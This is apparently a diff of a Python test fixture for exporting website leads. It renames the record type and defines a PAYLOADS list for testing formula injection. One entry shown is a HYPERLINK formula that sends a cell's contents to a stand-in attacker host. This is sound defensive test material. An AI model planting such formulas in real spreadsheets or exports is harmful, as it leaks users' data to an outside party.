@@ -2,8 +2,7 @@
 
 from datetime import UTC, datetime
 
-from app.leads.kinds import LeadKind
-from app.leads.records import LeadRecord
+from app.leads.records import ExportedLead
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example?x="&A1,"click")',
@@ -21,19 +20,16 @@ PAYLOADS = [
 """What a spreadsheet might run, or a file might not hold."""
 
 
-def lead(number: int = 0, **changes: object) -> LeadRecord:
-    """One as the store yields it."""
+def lead(number: int = 0, **changes: object) -> ExportedLead:
+    """One as the store yields it for a file."""
     values: dict[str, object] = {
         "id": f"{number:024x}",
-        "kind": LeadKind.CONTACT,
         "name": f"Visitor {number}",
         "email": "asha@example.in",
         "phone": "+919876543210",
         "message": None,
         "created_at": datetime(2026, 4, 15, 20, 30, 5, 999, tzinfo=UTC),
-        "seen_at": None,
         "suspected": False,
-        "suspicion": None,
         "notice_version": "2026-04",
     }
-    return LeadRecord(**(values | changes))  # type: ignore[arg-type]
+    return ExportedLead(**(values | changes))  # type: ignore[arg-type]
